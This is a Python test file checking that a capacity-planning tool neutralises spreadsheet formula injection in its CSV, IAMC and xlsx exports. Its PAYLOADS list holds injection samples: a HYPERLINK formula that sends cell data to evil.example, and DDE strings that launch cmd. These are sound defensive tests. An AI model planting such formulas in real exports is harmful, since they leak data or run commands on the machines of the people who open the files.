"""Formula injection (issue 14): text a user typed never becomes a live formula.

CSV and IAMC-CSV cells that begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
get a leading apostrophe (OWASP, "CSV Injection"); every text cell of every xlsx we write is
stored as text (only the tool's own What-if formulas are formulas); JSON keeps text verbatim.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import openpyxl
import pytest
from hostile_support import invoke

from capacity.io.export.tabular import FORMULA_STARTS, neutralised

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "=1+1", "-", "=cmd|' /C notepad'!'A1'"]


@pytest.fixture
def named(tmp_path, scenario_file):
    """A small scenario with a variant named by `payload` (a worldview name is free text)."""
    def make(payload: str):
        path = scenario_file(tmp_path, first=2026, last=2027, name="inj")
        text = path.read_text().replace("worldview: realist\n", "")
        path.write_text(text + "variants:\n  " + json.dumps(payload) + ": {worldview: realist}\n")
        return path
    return make


def _cells(path):
    book = openpyxl.load_workbook(path)
    return [(sheet.title, cell) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_variant_name_that_starts_a_formula_is_neutralised_in_csv(named, tmp_path, payload):
    out = tmp_path / "plan.csv"
    result = invoke("run", str(named(payload)), "-o", str(out))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
    assert {row["scenario"] for row in rows} == {"'" + payload}
    assert not any(value.startswith(FORMULA_STARTS) for row in rows for key, value in row.items()
                   if key != "value")


@pytest.mark.parametrize("payload", ["\tlead-tab", "\rlead-cr", "two\nlines", "nul\x00", "esc\x1b[2J"])
def test_a_variant_name_with_a_tab_or_line_break_is_refused(named, tmp_path, payload):
    from hostile_support import refused
    refused(invoke("run", str(named(payload)), "-o", str(tmp_path / "p.csv")), "inj.yaml:", "U+00",
            tmp_path / "p.csv")


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_a_variant_name_that_starts_a_formula_is_neutralised_in_iamc_csv(named, tmp_path, payload):
    out = tmp_path / "iamc.csv"
    assert invoke("run", str(named(payload)), "--format", "iamc", "-o", str(out)).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(), newline="")))
    scenarios = {row[1] for row in rows[1:]}
    assert all(name.startswith("'" + payload + "|") for name in scenarios), scenarios


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_a_variant_name_that_starts_a_formula_is_neutralised_in_iamc_csv_on_stdout(named, payload):
    result = invoke("run", str(named(payload)), "--format", "iamc", "-o", "-")
    assert result.exit_code == 0
    body = [line for line in result.output.splitlines() if line.startswith("capacity ")]
    assert body and all(f",'{payload[:3]}" in line or f",\"'{payload[:3]}" in line for line in body)


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_the_iamc_workbook_has_no_live_formula(named, tmp_path, payload):
    out = tmp_path / "iamc.xlsx"
    assert invoke("run", str(named(payload)), "--format", "iamc", "-o", str(out)).exit_code == 0
    cells = _cells(out)
    assert not [c.coordinate for _, c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, str) and c.value.startswith(payload) for _, c in cells)


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_the_results_workbook_has_formulas_only_on_the_what_if_sheet(named, tmp_path, payload):
    out = tmp_path / "plan.xlsx"
    assert invoke("run", str(named(payload)), "-o", str(out)).exit_code == 0
    cells = _cells(out)
    assert {sheet for sheet, c in cells if c.data_type == "f"} == {"What-if"}
    live = [c.value for sheet, c in cells if c.data_type == "f"]
    assert not any(payload in str(value) for value in live)          # the name is never inside one
    assert any(c.value == payload for _, c in cells if c.data_type == "s")


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_the_template_made_from_a_scenario_writes_its_text_as_text(named, tmp_path, payload):
    out = tmp_path / "input.xlsx"
    result = invoke("template", str(out), "--scenario", str(named(payload)))
    assert result.exit_code == 0, result.output
    cells = _cells(out)
    assert not [f"{sheet}!{c.coordinate}" for sheet, c in cells if c.data_type == "f"]


def test_json_keeps_the_text_verbatim(named, tmp_path):
    out = tmp_path / "plan.json"
    assert invoke("run", str(named(PAYLOADS[0])), "-o", str(out)).exit_code == 0
    assert {r["scenario"] for r in json.loads(out.read_text())["results"]} == {PAYLOADS[0]}


def test_the_iamc_workbook_is_byte_reproducible(named, tmp_path):
    source = named("=1+1")
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    assert invoke("run", str(source), "--format", "iamc", "-o", str(first)).exit_code == 0
    assert invoke("run", str(source), "--format", "iamc", "-o", str(second)).exit_code == 0
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2000, 1, 1, 0, 0, 0)}


@pytest.mark.parametrize("text, expected", [("=A1", "'=A1"), ("+A1", "'+A1"), ("-A1", "'-A1"), ("@A1", "'@A1"),
                                            ("\tA1", "'\tA1"), ("\rA1", "'\rA1"), ("A=1", "A=1"),
                                            ("realist", "realist"), ("", "")])
def test_neutralised_prefixes_only_text_that_starts_a_formula(text, expected):
    import pandas as pd
    table = pd.DataFrame({"scenario": [text], "value": [-1.5]})
    out = neutralised(table)
    assert out["scenario"].iloc[0] == expected
    assert out["value"].iloc[0] == -1.5                     # a negative number is not text


def test_a_junit_report_parses_whatever_text_its_checks_hold():
    import xml.etree.ElementTree as ET

    from hypothesis import given, settings
    from hypothesis import strategies as st

    from capacity.analysis.checks import CheckResult, to_junit

    fields = {name for name in CheckResult.__dataclass_fields__}

    @settings(max_examples=200, deadline=None)
    @given(expr=st.text(), message=st.text(), ok=st.booleans())
    def parses(expr, message, ok):
        values = {name: None for name in fields}
        values.update(expr=expr, message=message, ok=ok, actual=1.0, unit="USD/yr")
        ET.fromstring(to_junit([CheckResult(**{k: v for k, v in values.items() if k in fields})]))

    parses()
